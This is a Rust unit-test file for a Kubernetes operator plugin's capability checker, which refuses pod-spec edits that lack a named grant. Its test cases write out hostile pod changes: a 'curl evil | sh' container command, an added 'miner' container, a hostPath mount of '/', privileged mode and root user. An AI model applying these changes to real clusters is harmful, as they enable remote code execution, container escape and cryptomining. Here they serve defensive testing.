//! Unit tests of `src/plugin/capabilities.rs`.

use super::*;
use serde_json::json;

/// A pod as the operator builds it: pinned to a node, with a volume and a mount.
fn pod() -> Value {
    json!({"apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "j-learner-0", "namespace": "ns",
            "labels": {"diengine/job": "j", "team": "a"},
            "annotations": {"diengine/rank": "0"},
            "ownerReferences": [{"apiVersion": "diengine.opendilab.org/v2alpha1", "kind": "DIJob", "name": "j", "uid": "u"}]},
        "spec": {
            "restartPolicy": "Never", "hostname": "j-learner-0", "subdomain": "di-j",
            "affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {
                "nodeSelectorTerms": [{"matchFields": [{"key": "metadata.name", "operator": "In", "values": ["n1"]}]}]}}},
            "volumes": [{"name": "cache", "emptyDir": {}}],
            "containers": [{"name": "di-container", "image": "x", "command": ["python"],
                "volumeMounts": [{"name": "cache", "mountPath": "/cache"}],
                "securityContext": {"capabilities": {"drop": ["NET_RAW"]}},
                "env": [{"name": "DI_RANK", "value": "0"}, {"name": "USER", "value": "1"}]}]}})
}

fn changed_by(edit: impl FnOnce(&mut Value)) -> Uses {
    let mut after = pod();
    edit(&mut after);
    uses(&pod(), &after)
}

fn caps(u: &Uses) -> Vec<String> {
    u.by_capability.keys().map(ToString::to_string).collect()
}

#[test]
fn no_change_uses_nothing() {
    assert_eq!(uses(&pod(), &pod()), Uses::default());
    // null and absent are the same to Kubernetes.
    let u = changed_by(|p| p["spec"]["nodeName"] = Value::Null);
    assert_eq!(u, Uses::default());
}

#[test]
fn the_default_set_needs_no_grant() {
    let u = changed_by(|p| {
        let c = &mut p["spec"]["containers"][0];
        c["env"][1]["value"] = json!("2");
        c["envFrom"] = json!([{"configMapRef": {"name": "nccl"}}]);
        c["resources"] = json!({"limits": {"nvidia.com/gpu": "1"}});
        c["volumeMounts"]
            .as_array_mut()
            .unwrap()
            .push(json!({"name": "data", "mountPath": "/data"}));
        c["securityContext"] = json!({"privileged": false, "allowPrivilegeEscalation": false,
            "runAsNonRoot": true, "readOnlyRootFilesystem": true,
            "capabilities": {"drop": ["NET_RAW", "ALL"]}});
        let s = &mut p["spec"];
        s["nodeSelector"] = json!({"pool": "gpu"});
        s["tolerations"] = json!([{"key": "gpu", "operator": "Exists"}]);
        s["topologySpreadConstraints"] = json!([{"maxSkew": 1}]);
        // Another term, still pinned.
        s["affinity"]["nodeAffinity"]["requiredDuringSchedulingIgnoredDuringExecution"]["nodeSelectorTerms"]
            [0]["matchExpressions"] = json!([{"key": "zone", "operator": "In", "values": ["a"]}]);
        s["volumes"].as_array_mut().unwrap().extend([
            json!({"name": "data", "persistentVolumeClaim": {"claimName": "d"}}),
            json!({"name": "cfg", "configMap": {"name": "c"}}),
            json!({"name": "s", "secret": {"secretName": "s"}}),
            json!({"name": "p", "projected": {"sources": [{"configMap": {"name": "c"}}, {"downwardAPI": {}}]}}),
        ]);
        let m = &mut p["metadata"];
        m["labels"]["team"] = json!("b");
        m["annotations"]["example.com/x"] = json!("y");
    });
    assert_eq!(u.needs(), Grants::NONE, "{u:?}");
    assert_eq!(
        caps(&u),
        [
            "labels/annotations",
            "env",
            "resources",
            "scheduling",
            "volumes",
            "hardening"
        ]
    );
    assert_eq!(u.refusal(Grants::NONE), None);
}

#[test]
fn each_dangerous_field_needs_its_grant_and_is_named() {
    type Edit = fn(&mut Value);
    let cases: Vec<(Edit, Grant, &str)> = vec![
        (
            |p| p["spec"]["hostNetwork"] = json!(true),
            Grant::HostNetwork,
            "set spec.hostNetwork",
        ),
        (
            |p| p["spec"]["hostPID"] = json!(true),
            Grant::HostPid,
            "set spec.hostPID",
        ),
        (
            |p| p["spec"]["hostIPC"] = json!(true),
            Grant::HostIpc,
            "set spec.hostIPC",
        ),
        (
            |p| p["spec"]["serviceAccountName"] = json!("admin"),
            Grant::ServiceAccountName,
            "set spec.serviceAccountName",
        ),
        (
            |p| p["spec"]["automountServiceAccountToken"] = json!(true),
            Grant::ServiceAccountName,
            "spec.automountServiceAccountToken",
        ),
        (
            |p| {
                p["spec"]["volumes"]
                    .as_array_mut()
                    .unwrap()
                    .push(json!({"name": "root", "hostPath": {"path": "/"}}))
            },
            Grant::HostPath,
            "set spec.volumes[root].hostPath",
        ),
        (
            // The same name, another type: still the type that counts.
            |p| p["spec"]["volumes"][0] = json!({"name": "cache", "hostPath": {"path": "/"}}),
            Grant::HostPath,
            "spec.volumes[cache].hostPath",
        ),
        (
            |p| {
                p["spec"]["volumes"]
                    .as_array_mut()
                    .unwrap()
                    .push(json!({"name": "n", "nfs": {"server": "s", "path": "/"}}))
            },
            Grant::VolumeTypes,
            "spec.volumes[n].nfs",
        ),
        (
            |p| {
                p["spec"]["volumes"].as_array_mut().unwrap().push(json!(
                    {"name": "t", "projected": {"sources": [{"serviceAccountToken": {"path": "t"}}]}}))
            },
            Grant::ServiceAccountName,
            "spec.volumes[t].projected.sources[serviceAccountToken]",
        ),
        (
            |p| p["spec"]["containers"][0]["securityContext"]["privileged"] = json!(true),
            Grant::Privileged,
            "set spec.containers[di-container].securityContext.privileged",
        ),
        (
            |p| {
                p["spec"]["containers"][0]["securityContext"]["allowPrivilegeEscalation"] =
                    json!(true)
            },
            Grant::Privileged,
            "securityContext.allowPrivilegeEscalation",
        ),
        (
            |p| {
                p["spec"]["containers"][0]["volumeMounts"][0]["mountPropagation"] =
                    json!("Bidirectional")
            },
            Grant::Privileged,
            "volumeMounts[/cache].mountPropagation",
        ),
        (
            |p| {
                p["spec"]["containers"][0]["securityContext"]["capabilities"]["add"] =
                    json!(["SYS_ADMIN"])
            },
            Grant::Capabilities,
            "set spec.containers[di-container].securityContext.capabilities.add",
        ),
        (
            // Dropping fewer capabilities gives some back.
            |p| p["spec"]["containers"][0]["securityContext"]["capabilities"]["drop"] = json!([]),
            Grant::Capabilities,
            "capabilities.drop",
        ),
        (
            |p| p["spec"]["containers"][0]["securityContext"]["runAsUser"] = json!(0),
            Grant::SecurityContext,
            "securityContext.runAsUser",
        ),
        (
            |p| p["spec"]["securityContext"] = json!({"runAsNonRoot": false}),
            Grant::SecurityContext,
            "spec.securityContext.runAsNonRoot",
        ),
        (
            |p| {
                p["spec"]["securityContext"] =
                    json!({"sysctls": [{"name": "kernel.x", "value": "1"}]})
            },
            Grant::SecurityContext,
            "spec.securityContext.sysctls",
        ),
        (
            |p| {
                p["spec"]["containers"][0]["ports"] = json!([{"containerPort": 80, "hostPort": 80}])
            },
            Grant::HostNetwork,
            "spec.containers[di-container].ports[80]",
        ),
        (
            |p| {
                p["spec"]["containers"]
                    .as_array_mut()
                    .unwrap()
                    .push(json!({"name": "miner", "image": "evil"}))
            },
            Grant::Containers,
            "set spec.containers[miner]",
        ),
        (
            |p| p["spec"]["initContainers"] = json!([{"name": "init", "image": "evil"}]),
            Grant::Containers,
            "spec.initContainers",
        ),
        (
            |p| p["spec"]["ephemeralContainers"] = json!([{"name": "e", "image": "evil"}]),
            Grant::Containers,
            "spec.ephemeralContainers",
        ),
        (
            |p| p["spec"]["containers"][0]["image"] = json!("evil"),
            Grant::Image,
            "changed spec.containers[di-container].image",
        ),
        (
            |p| p["spec"]["imagePullSecrets"] = json!([{"name": "r"}]),
            Grant::Image,
            "spec.imagePullSecrets",
        ),
        (
            |p| p["spec"]["containers"][0]["command"] = json!(["sh", "-c", "curl evil | sh"]),
            Grant::Command,
            "changed spec.containers[di-container].command",
        ),
        (
            |p| p["spec"]["containers"][0]["livenessProbe"] = json!({"exec": {"command": ["sh"]}}),
            Grant::Command,
            "livenessProbe",
        ),
        (
            |p| p["spec"]["nodeName"] = json!("n2"),
            Grant::Scheduler,
            "set spec.nodeName",
        ),
        (
            |p| p["spec"]["priorityClassName"] = json!("system-node-critical"),
            Grant::Scheduler,
            "spec.priorityClassName",
        ),
        (
            |p| p["spec"]["schedulerName"] = json!("default-scheduler"),
            Grant::Scheduler,
            "spec.schedulerName",
        ),
        (
            |p| p["spec"]["runtimeClassName"] = json!("runc"),
            Grant::SecurityContext,
            "spec.runtimeClassName",
        ),
        // Fields nobody listed: refused by default.
        (
            |p| p["spec"]["dnsPolicy"] = json!("Default"),
            Grant::Other,
            "set spec.dnsPolicy",
        ),
        (
            |p| p["spec"]["someFutureField"] = json!({"a": 1}),
            Grant::Other,
            "set spec.someFutureField",
        ),
        (
            |p| p["spec"]["containers"][0]["tty"] = json!(true),
            Grant::Other,
            "spec.containers[di-container].tty",
        ),
        (
            |p| p["metadata"]["finalizers"] = json!(["x/y"]),
            Grant::Other,
            "set metadata.finalizers",
        ),
        (
            |p| p["status"] = json!({"phase": "Running"}),
            Grant::Other,
            "set status",
        ),
    ];
    for (edit, grant, needle) in cases {
        let u = changed_by(edit);
        assert!(u.needs().contains(grant), "{needle}: {u:?}");
        let refusal = u.refusal(Grants::NONE).expect(needle);
        assert!(
            refusal.contains(needle)
                && refusal.contains(&format!("needs the grant {grant} in its ConfigMap")),
            "{needle}: {refusal}"
        );
        // Granted: allowed, unless it also needs another grant.
        let all: Grants = u.needs();
        assert_eq!(u.refusal(all), None, "{needle}: {u:?}");
        assert!(
            u.refusal(Grants(!grant.bit() & all.0)).is_some(),
            "{needle}"
        );
    }
}

#[test]
fn the_operators_fields_need_a_grant_nobody_has() {
    type Edit = fn(&mut Value);
    let all: Grants = Grant::ALL.into_iter().collect();
    let cases: Vec<(Edit, &str)> = vec![
        (|p| p["metadata"]["name"] = json!("x"), "metadata.name"),
        (
            |p| p["metadata"]["ownerReferences"] = json!([]),
            "metadata.ownerReferences",
        ),
        (
            |p| p["metadata"]["labels"]["diengine/job"] = json!("x"),
            "metadata.labels[diengine/job]",
        ),
        (
            |p| p["metadata"]["annotations"] = Value::Null,
            "removed metadata.annotations[diengine/rank]",
        ),
        (
            |p| p["metadata"]["annotations"]["scheduling.k8s.io/group-name"] = json!("other-job"),
            "scheduling.k8s.io/group-name",
        ),
        (
            |p| p["metadata"]["labels"]["scheduling.x-k8s.io/pod-group"] = json!("other-job"),
            "scheduling.x-k8s.io/pod-group",
        ),
        (|p| p["spec"]["hostname"] = json!("x"), "spec.hostname"),
        (
            |p| p["spec"]["restartPolicy"] = json!("Always"),
            "spec.restartPolicy",
        ),
        (
            |p| p["spec"]["affinity"] = Value::Null,
            "the pin to the allocated node",
        ),
        (
            |p| {
                p["spec"]["affinity"]["nodeAffinity"]["requiredDuringSchedulingIgnoredDuringExecution"]["nodeSelectorTerms"]
                    .as_array_mut()
                    .unwrap()
                    .push(json!({"matchExpressions": [{"key": "any", "operator": "Exists"}]}))
            },
            "the pin to the allocated node",
        ),
        (
            |p| {
                p["spec"]["affinity"]["nodeAffinity"]["requiredDuringSchedulingIgnoredDuringExecution"]
                    ["nodeSelectorTerms"][0]["matchFields"][0]["values"] = json!(["n2"])
            },
            "the pin to the allocated node",
        ),
    ];
    for (edit, needle) in cases {
        let u = changed_by(edit);
        let refusal = u.refusal(all).expect(needle);
        assert!(
            refusal.contains(needle) && refusal.contains("belongs to the operator"),
            "{needle}: {refusal}"
        );
    }
}

#[test]
fn a_refusal_names_every_missing_grant_and_a_grant_allows_its_field() {
    let mut after = pod();
    after["spec"]["hostNetwork"] = json!(true);
    after["spec"]["serviceAccountName"] = json!("admin");
    after["spec"]["containers"][0]["securityContext"]["privileged"] = json!(true);
    after["spec"]["volumes"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "root", "hostPath": {"path": "/"}}));
    let err = check("m", Grants::NONE, &pod(), &after).unwrap_err();
    assert_eq!(err.reason(), "NotGranted");
    let text = err.to_string();
    for needle in [
        "plugin m",
        "it set spec.containers[di-container].securityContext.privileged, which needs the grant privileged",
        "hostPath (set spec.volumes[root].hostPath)",
        "hostNetwork (set spec.hostNetwork)",
        "serviceAccountName (set spec.serviceAccountName)",
    ] {
        assert!(text.contains(needle), "{needle}: {text}");
    }
    let granted = Grants::parse("privileged, hostPath,hostNetwork serviceAccountName").unwrap();
    let u = check("m", granted, &pod(), &after).unwrap();
    assert_eq!(u.needs(), granted);
    // One short: refused, naming only that one.
    let short = Grants::parse("privileged,hostPath,hostNetwork").unwrap();
    let err = check("m", short, &pod(), &after).unwrap_err().to_string();
    assert!(
        err.contains("needs the grant serviceAccountName") && !err.contains("also"),
        "{err}"
    );
}

#[test]
fn an_added_container_needs_containers_and_what_it_runs_with() {
    let u = changed_by(|p| {
        p["spec"]["containers"].as_array_mut().unwrap().push(json!(
            {"name": "side", "image": "i", "command": ["c"], "securityContext": {"privileged": true}}))
    });
    assert_eq!(
        u.needs(),
        Grants::parse("containers,privileged").unwrap(),
        "{u:?}"
    );
    // Removing one needs the grant too.
    let u = changed_by(|p| p["spec"]["containers"] = json!([]));
    assert_eq!(u.needs(), Grants::NONE.with(Grant::Containers));
    // A duplicate name is compared with the first of that name: it cannot hide a change.
    let u = changed_by(|p| {
        let mut twin = p["spec"]["containers"][0].clone();
        twin["securityContext"]["privileged"] = json!(true);
        p["spec"]["containers"].as_array_mut().unwrap().push(twin);
    });
    assert!(u.needs().contains(Grant::Privileged), "{u:?}");
    // Even an exact copy is an extra container.
    let u = changed_by(|p| {
        let twin = p["spec"]["containers"][0].clone();
        p["spec"]["containers"].as_array_mut().unwrap().push(twin);
    });
    assert_eq!(u.needs(), Grants::NONE.with(Grant::Containers), "{u:?}");
}

#[test]
fn grants_parse_and_print_a_closed_vocabulary() {
    let g = Grants::parse(" hostPath,, privileged  hostPath ").unwrap();
    assert_eq!(g.to_string(), "privileged,hostPath");
    assert_eq!(Grants::parse("").unwrap(), Grants::NONE);
    for g in Grant::ALL {
        assert_eq!(g.name().parse::<Grant>(), Ok(g));
        assert_eq!(Grants::parse(g.name()).unwrap().to_string(), g.name());
    }
    let err = Grants::parse("privileged,HostPath").unwrap_err();
    assert_eq!(err.name, "HostPath");
    assert!(
        err.to_string()
            .contains("grants are privileged, capabilities"),
        "{err}"
    );
    let long = "x".repeat(10_000);
    assert!(Grants::parse(&long).unwrap_err().to_string().len() < 400);
    assert_eq!(
        serde_json::to_value(Grants::parse("hostPID,image").unwrap()).unwrap(),
        json!(["hostPID", "image"])
    );
}

#[test]
fn refusals_stay_short_whatever_the_names() {
    let long = "k".repeat(100_000);
    let mut after = pod();
    after["spec"]["volumes"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": long, "hostPath": {"path": "/"}}));
    let err = check("m", Grants::NONE, &pod(), &after)
        .unwrap_err()
        .to_string();
    assert!(err.len() < 300, "{}", err.len());
}

#[test]
fn typed_pods_are_checked_as_the_operator_would_create_them() {
    let (_, pod) = crate::plugin::sample::pod("learner");
    let mut after = pod.clone();
    let spec = after.spec.get_or_insert_with(Default::default);
    spec.host_network = Some(true);
    let err = check_pods("m", Grants::NONE, &pod, &after).unwrap_err();
    assert!(err.to_string().contains("set spec.hostNetwork"), "{err}");
    assert!(check_pods("m", Grants::NONE.with(Grant::HostNetwork), &pod, &after).is_ok());
}
